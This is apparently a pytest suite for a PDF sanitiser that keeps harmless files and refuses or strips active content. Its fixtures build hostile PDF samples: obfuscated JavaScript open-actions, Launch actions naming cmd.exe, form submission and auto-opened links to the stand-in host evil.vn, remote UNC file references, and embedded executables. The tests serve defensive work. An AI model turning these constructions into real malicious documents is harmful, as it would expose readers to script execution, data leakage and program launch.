"""PDF files: kept as they came, or refused in words where they would do something of their own accord."""

import io
import time
import zlib
from contextlib import suppress

import pypdfium2 as pdfium
import pytest
from pypdfium2 import raw

from vitreem.kernel.files import inspection, pdf_files
from vitreem.kernel.files.refusals import BrokenFile
from vitreem.kernel.http.problems import Problem


def pdf(*objects: str | bytes, catalog: str = "", page: str = "", version: str = "1.5") -> bytes:
    """A document of one page; `objects` are numbered from 4."""
    body = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{page}>>", *objects,
    ]  # fmt: skip
    out = f"%PDF-{version}\n".encode()
    places = []
    for number, one in enumerate(body, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + (one if isinstance(one, bytes) else one.encode()) + b"\nendobj\n"
    at = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    tail = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}trailer\n<</Root 1 0 R/Size {len(places) + 1}>>\n"
    return out + tail.encode() + f"startxref\n{at}\n%%EOF\n".encode()


def stream(data: bytes, more: str = "") -> bytes:
    return f"<<{more}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def in_object_stream(inner: str) -> bytes:
    """The action lies in a compressed stream of objects, where the raw bytes show nothing."""
    packed = zlib.compress(f"6 0 {inner}".encode())
    rows = b"".join(
        bytes((kind, *place.to_bytes(4, "big"), index)) for kind, place, index in ((0, 0, 0), *_in_place(packed))
    )
    head = _numbered(packed)
    at = len(head)
    table = zlib.compress(rows)
    return head + (
        f"5 0 obj\n<</Type/XRef/W[1 4 1]/Size 7/Root 1 0 R/Filter/FlateDecode/Length {len(table)}>>stream\n".encode()
        + table + f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n".encode()
    )  # fmt: skip


def _bodies(packed: bytes) -> list[bytes]:
    more = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    return [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", stream(packed, more),
    ]  # fmt: skip


def _numbered(packed: bytes) -> bytes:
    out = b"%PDF-1.5\n"
    for number, one in enumerate(_bodies(packed), start=1):
        out += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    return out


def _in_place(packed: bytes) -> list[tuple[int, int, int]]:
    head = _numbered(packed)
    found = [(1, head.index(f"{number} 0 obj\n".encode()), 0) for number in range(1, 5)]
    return [*found, (1, len(head), 0), (2, 4, 0)]


def encrypted(password: str, catalog: str = "/OpenAction<</S/JavaScript/JS 9 0 R>>") -> bytes:
    """Encrypted with RC4 of 40 bits and `password` to open it; inside stands a script."""
    import hashlib

    from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4
    from cryptography.hazmat.primitives.ciphers import Cipher

    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

    def rc4(key: bytes, data: bytes) -> bytes:
        return Cipher(ARC4(key), None).encryptor().update(data)

    padded = (password.encode() + pad)[:32]
    owner = rc4(hashlib.md5(padded).digest()[:5], padded)
    key = hashlib.md5(padded + owner + (-4).to_bytes(4, "little", signed=True) + b"0123456789abcdef").digest()[:5]
    user = rc4(key, pad)
    made = pdf(catalog=catalog)
    lock = f"<</Filter/Standard/V 1/R 2/O<{owner.hex()}>/U<{user.hex()}>/P -4>>"
    ident = b"0123456789abcdef".hex()
    return made.replace(b"<</Root 1 0 R", f"<</Encrypt{lock}/ID[<{ident}><{ident}>]/Root 1 0 R".encode())


def pages(count: int) -> bytes:
    document = pdfium.PdfDocument.new()
    for _ in range(count):
        document.new_page(200, 200)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def attached() -> bytes:
    document = pdfium.PdfDocument.new()
    document.new_page(200, 200)
    document.new_attachment("x.exe").set_data(b"MZ")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def refusal(data: bytes) -> tuple[str, str]:
    with pytest.raises(Problem) as raised:
        inspection.clean(data)
    return raised.value.code, raised.value.extra.get("what", "")


def drawn(xobject: bytes | str) -> bytes:
    """A page that shows a drawing of its own."""
    return pdf(xobject, page="/Resources<</XObject<</X 4 0 R>>>>")


def note(subtype: str, more: str = "") -> bytes:
    return pdf(page=f"/Annots[<</Type/Annot/Subtype/{subtype}/Rect[0 0 9 9]{more}>>]")


SIGNATURE = (
    "<</FT/Sig/T(a)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/V 5 0 R>>",
    "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 10 20 30]/Contents<00ff>/M(D:2026)>>",
)


def signed(*more: str | bytes, catalog: str = "", page: str = "/Annots[4 0 R]") -> bytes:
    return pdf(*SIGNATURE, *more, catalog="/AcroForm<</SigFlags 3/Fields[4 0 R]>>" + catalog, page=page)


def of_libreoffice() -> bytes:
    """A text with headings, links, an outline, tags and metadata, opened at its first page."""
    return pdf(
        "<</Type/Outlines/First 5 0 R/Last 6 0 R/Count 2>>",
        "<</Title<FEFF004D1EE5006300200031>/Dest[3 0 R/XYZ 0 190 0]/Parent 4 0 R/Next 6 0 R>>",
        "<</Title(Muc 2)/A<</S/GoTo/D[3 0 R/Fit]>>/Parent 4 0 R/Prev 5 0 R>>",
        stream(b"<x:xmpmeta><dc:title>Ke hoach</dc:title></x:xmpmeta>", "/Type/Metadata/Subtype/XML"),
        "<</Type/StructTreeRoot/K[9 0 R]>>",
        "<</Type/StructElem/S/Link/P 8 0 R/A<</O/Layout/Placement/Block>>/K 0>>",
        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Border[0 0 0]/A<</Type/Action/S/URI/URI(https://chinhphu.vn/?a=\\(1\\))>>>>",
        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(mailto:an@phuong.vn)>>/Dest[3 0 R/Fit]>>",
        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Named/N/NextPage>>>>",
        "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(Ghi chu /JS)/F 4>>",
        catalog="/OpenAction[3 0 R/XYZ null null 0]/Outlines 4 0 R/Metadata 7 0 R/StructTreeRoot 8 0 R"
        "/MarkInfo<</Marked true>>/ViewerPreferences<</DisplayDocTitle true>>/Lang(vi-VN)/PageMode/UseOutlines",
        page="/Annots[10 0 R 11 0 R 12 0 R 13 0 R]/Trans<</S/Dissolve>>/Group<</S/Transparency/CS/DeviceRGB>>",
    )


LINK = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<{}>>>>]"
HOSTILE = {
    "script at opening": ("scripts", lambda: pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    "script with a name in disguise": ("scripts", lambda: pdf(catalog="/OpenAction<</S/J#61v#61Script/J#53(x)>>")),
    "script among the names": ("scripts", lambda: pdf("<</S/JavaScript/JS(x)>>", catalog="/Names<</JavaScript<</Names[(a)4 0 R]>>>>")),
    "script in an object stream": ("scripts", lambda: in_object_stream("<</S/JavaScript/JS(x)>>")),
    "script of a page": ("scripts", lambda: pdf(page="/AA<</O<</S/JavaScript/JS(x)>>>>")),
    "script in a file with an empty password": ("scripts", lambda: encrypted("")),
    "XFA form": ("scripts", lambda: pdf(stream(b"<xdp/>"), catalog="/AcroForm<</XFA 4 0 R/Fields[]>>")),
    "launch": ("launch", lambda: pdf(page=LINK.format("/S/Launch/F(cmd.exe)"))),
    "launch in an object stream": ("launch", lambda: in_object_stream("<</S/Launch/Win<</F(cmd.exe)>>>>")),
    "file of a server": ("launch", lambda: pdf(catalog="/OpenAction<</S/GoToR/F(\\\\\\\\10.0.0.9\\\\x.pdf)/D[0/Fit]>>")),
    "form that sends": ("launch", lambda: pdf(page=LINK.format("/S/SubmitForm/F(http://evil.vn)"))),
    "page of the web at opening": ("automatic_actions", lambda: pdf(catalog="/OpenAction<</S/URI/URI(http://evil.vn)>>")),
    "page of the web at opening, elsewhere": ("automatic_actions", lambda: pdf("<</S 5 0 R/URI(http://evil.vn)>>", "/URI", catalog="/OpenAction 4 0 R")),
    "page of the web with a page": ("automatic_actions", lambda: pdf(page="/AA<</O<</S/URI/URI(file://evil/x)>>>>")),
    "page of the web after a jump": ("automatic_actions", lambda: pdf(catalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil.vn)>>]>>")),
    "page of the web with a note": ("automatic_actions", lambda: note("Widget", "/AA<</PO<</S/URI/URI(http://evil.vn)>>>>")),
    "page of the web in an object stream": ("automatic_actions", lambda: in_object_stream("<</S/URI/URI(http://evil.vn)>>")),
    "printing at opening": ("automatic_actions", lambda: pdf(catalog="/OpenAction<</S/Named/N/Print>>")),
    "thread of another file at opening": ("automatic_actions", lambda: pdf(catalog="/OpenAction<</S/Thread/F(\\\\\\\\evil\\\\x.pdf)/D 0>>")),
    "printing": ("launch", lambda: pdf(page=LINK.format("/S/Named/N/Print"))),
    "thread of another file": ("launch", lambda: pdf(page=LINK.format("/S/Thread/F(x.pdf)/D 0"))),
    "film at opening": ("media", lambda: pdf(catalog="/OpenAction<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(x)>>>>>>")),
    "film of a click": ("media", lambda: pdf(page=LINK.format("/S/Movie/T(x)"))),
    "sound of a click": ("media", lambda: pdf("<</R 8000/Length 0>>stream\n\nendstream", page=LINK.format("/S/Sound/Sound 4 0 R"))),
    "film": ("media", lambda: note("Movie", "/Movie<</F(http://evil.vn/x.avi)>>/A true")),
    "sound": ("media", lambda: note("Sound", "/Sound 4 0 R")),
    "screen": ("media", lambda: note("Screen")),
    "3D": ("media", lambda: note("3D")),
    "note of a kind to come": ("media", lambda: note("NextYear")),
    "drawing of another file": ("launch", lambda: drawn(stream(b"", "/Subtype/Form/BBox[0 0 1 1]/Ref<</F(http://evil.vn/x.pdf)/Page 0>>"))),
    "bytes of another file": ("launch", lambda: pdf(stream(b"", "/F(\\\\\\\\evil\\\\x)"), page="/Contents 4 0 R")),
    "picture of the web": ("launch", lambda: drawn(stream(b"", "/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(http://evil.vn/x)>>"))),
    "file of the web": ("launch", lambda: pdf("<</Type/Filespec/FS/URL/F(http://evil.vn)>>", catalog="/AF[4 0 R]")),
    "folder of files": ("attachments", lambda: pdf(catalog="/Collection<</View/D>>")),
    "script that nothing leads to, signed": ("scripts", lambda: signed("<</S/JavaScript/JS(x)>>")),
    "file that nothing leads to, signed": ("attachments", lambda: signed(stream(b"MZ", "/Type/EmbeddedFile"))),
    "link to a disk, signed": ("signed_unclean", lambda: signed(page="/Annots[4 0 R<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///c:/x)>>>>]")),
    "place of a photo, signed": ("signed_unclean", lambda: signed(stream(b"<exif:GPSLatitude>10,46N", "/Type/Metadata/Subtype/XML"), catalog="/Metadata 6 0 R")),
    "embedded file": ("attachments", attached),
    "embedded file on a page": ("attachments", lambda: pdf("<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>", stream(b"MZ", "/Type/EmbeddedFile"), page="/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]")),
    "Flash": ("attachments", lambda: pdf(page="/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_foreign_content(name):
    what, make = HOSTILE[name]
    assert refusal(make()) == ("foreign_content", what)


@pytest.mark.parametrize(
    "data",
    [
        pdf(), pages(2), pdf(page=LINK.format("/S/URI/URI(https://a.vn/JS/Launch\\(/EF\\))")),
        pdf(stream(b"BT (/JS /Launch) Tj ET /JavaScript"), page="/Contents 4 0 R"),
        pdf("<</Title(/JS /JavaScript)/Author<2F4A53>>>"), pdf("<</Title(a\\)/JS)>>"),
        pdf("<</JSX 1/LaunchPad 2/EF1 3>>", page="/Resources 4 0 R"), in_object_stream("<</S/GoTo/D[3 0 R/Fit]>>"),
        of_libreoffice(), signed(), pdf(catalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), pdf(catalog="/AcroForm<</Fields[]/NeedAppearances true>>"),
        pdf(page="/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>/Resources<</Font<</AA 4 0 R/A 4 0 R>>>>", catalog="/URI<</Base(https://a.vn)>>"),
        pdf(stream(b"\xff\xd8 /JS /Launch \xff\xd9", "/Subtype/Image/Filter/DCTDecode"), page="/Resources<</XObject<</A 4 0 R>>>>"),
    ],
    ids=range(14),
)  # fmt: skip
def test_honest_files_are_kept_as_they_came(data):
    assert inspection.clean(data).data == data


def opened(data: bytes) -> int:
    document = pdfium.PdfDocument(data)
    try:
        return len(document)
    finally:
        document.close()


@pytest.mark.parametrize(
    ("data", "gone"),
    [
        (pdf("<</S/JavaScript/JS(x)>>"), b"JavaScript"), (pdf("<</S/J#61vaScript/J#53(x)>>"), b"JavaScript"),
        (pdf(stream(b"MZ", "/Type/EmbeddedFile")), b"EmbeddedFile"),
        (pdf(stream(zlib.compress(b"9 0 <</S/JavaScript/JS(x)>>"), "/Type/ObjStm/N 1/First 4/Filter/FlateDecode")), b"ObjStm"),
        (pdf() + b"\n<script>alert(1)</script>PK\x03\x04", b"<script>"), (pdf() + zlib.compress(b"x" * 99), zlib.compress(b"x" * 99)),
        (pdf(page=LINK.format("/S/URI/URI(file:///c:/windows/x.exe)")), b"x.exe"),
        (pdf(page=LINK.format("/S/URI/URI(java\\163cript:alert)")), b"cript:alert"),
        (pdf(page=LINK.format("/S/URI/URI<66696c653a2f2f6576696c>")), b"696C653A"),
        (pdf("(file://evil.vn)", page=LINK.format("/S/URI/URI 4 0 R")), b"evil"),
        (pdf(page=LINK.format("/S/URI/URI(x.docx)"), catalog="/URI<</Base(file://evil/)>>"), b"evil"),
        (pdf(stream(b"<exif:GPSLatitude>10,46N</exif:GPSLatitude>", "/Type/Metadata/Subtype/XML"), catalog="/Metadata 4 0 R"), b"10,46N"),
        (pdf(stream(zlib.compress(b"<exif:GPSLatitude>10,46N"), "/Subtype/XML/Filter/FlateDecode"), catalog="/Metadata 4 0 R"), zlib.compress(b"<exif:GPSLatitude>10,46N")),
        (encrypted("", "/Lang(vi)"), b"/Encrypt"),
    ],
    ids=range(14),
)  # fmt: skip
def test_what_an_unsigned_file_can_do_without_goes(data, gone):
    kept = inspection.clean(data).data
    assert kept != data
    assert gone not in kept
    assert opened(kept) == 1
    assert inspection.clean(kept).data == kept  # clean is clean


def test_a_signed_file_loses_nothing_but_what_follows_its_end():
    assert inspection.clean(signed() + b"\r\n\x00").data == signed() + b"\r\n\x00"
    assert inspection.clean(signed() + b"<script>").data.strip() == signed().strip()


@pytest.mark.parametrize(
    "body",
    [b"(" * 900_000, b"[" * 400_000 + b"]" * 400_000, b"(" + b"\\(" * 900_000 + b")", b"1 " * 900_000, b"<<" * 300_000],
)
def test_large_objects_are_read_in_time(body):
    begun = time.process_time()
    with suppress(BrokenFile):
        inspection.clean(pdf(b"<</X " + body + b">>", page="/X 4 0 R"))
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"%PDF-1.7\n" + b"garbage " * 50, "broken_file"), (pdf()[:60], "broken_file"),
        (b"%PDF-1.7\n<script>alert(1)</script>", "broken_file"), (encrypted("mat-khau"), "protected_file"),
    ],
    ids=range(4),
)  # fmt: skip
def test_refused(data, code):
    assert refusal(data)[0] == code


def test_pages():
    assert inspection.clean(pages(1_000)).media_type == "application/pdf"
    assert refusal(pages(1_001))[0] == "too_many_pages"


def test_a_document_that_unpacks_without_end(monkeypatch):
    monkeypatch.setattr(pdf_files, "_MAX_WRITTEN", 300)
    assert refusal(pages(20))[0] == "zip_bomb"


def test_pdfium_knows_the_errors_by_these_numbers():
    assert (pdf_files._PASSWORD, pdf_files._SECURITY) == (raw.FPDF_ERR_PASSWORD, raw.FPDF_ERR_SECURITY)
